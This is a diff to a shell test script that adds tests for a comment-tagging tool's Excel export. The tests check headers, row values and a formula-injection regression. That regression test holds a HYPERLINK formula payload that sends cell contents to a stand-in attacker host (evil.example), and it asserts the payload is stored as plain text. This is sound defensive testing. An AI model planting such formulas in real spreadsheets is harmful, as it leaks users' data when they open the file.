@@ -48,6 +48,37 @@ printf '%s\n' '{"id":"r1","text":"Joint moderation"}' | "$returns" tag --format 
 head -1 "$work/t.csv" | grep -q "^id,question,themes,pending,matches,text" && grep -q '^"r1",,"moderation","","moderation@6-16","Joint moderation"' "$work/t.csv"
 check "tag --format csv" $?
 
+# Excel: a row per record, read back with openpyxl against the JSON Lines of the same run.
+"$returns" tag "$corpus" --format xlsx --jobs 2 >"$work/t.xlsx" 2>/dev/null
+"$office_python" - "$work/t.xlsx" "$work/t1.jsonl" <<'PY'
+import sys, json, openpyxl
+ws = openpyxl.load_workbook(sys.argv[1])["Tagged comments"]
+head = [c.value for c in ws[1]]
+assert head == ["Id", "Round", "District", "Collaborative", "Question", "Position", "Heading", "Comment", "Themes",
+                "Pending", "Matches"], head
+assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:K%d" % ws.max_row
+want = [json.loads(l) for l in open(sys.argv[2])]
+rows = list(ws.iter_rows(min_row=2, values_only=True))
+assert len(rows) == len(want), (len(rows), len(want))
+for r, w in zip(rows, want):
+    assert r[0] == w["id"] and r[7] == w["text"] and isinstance(r[4], int) and r[4] == w["question"], r
+    assert isinstance(r[5], int) and r[5] == w["position"]
+    assert (r[8] or "") == "; ".join(w["themes"]) and (r[9] or "") == "; ".join(w["pending"])
+PY
+check "tag --format xlsx: a row per record in input order, numbers as numbers, themes and pending as in jsonl" $?
+"$returns" tag "$data/hostile/records.jsonl" --lexicon "$data/hostile/lexicon.yaml" --format xlsx >"$work/hostile.xlsx" 2>/dev/null
+"$office_python" - "$work/hostile.xlsx" <<'PY'
+import sys, openpyxl
+ws = openpyxl.load_workbook(sys.argv[1]).active
+texts = set()
+for row in ws.iter_rows(min_row=2):
+    for c in row:
+        assert c.data_type != "f", (c.coordinate, c.value)
+        if isinstance(c.value, str): texts.add(c.value)
+assert '=HYPERLINK("http://evil.example/?"&A1,"moderation report")' in texts and "-Thanet" in texts and "@Group" in texts
+PY
+check "regression: tag --format xlsx: text starting with = - @ is text, never a formula" $?
+
 # Bad records are rejected, not fatal: the rest is tagged, the rejects file says why, exit 1.
 printf '%s\n' '{"id":"r1","text":"Joint moderation"}' 'not json' '{"id":"r3","words":"no text"}' >"$work/bad.jsonl"
 "$returns" tag "$work/bad.jsonl" --rejects "$work/bad.rejects" >"$work/out" 2>"$work/err"
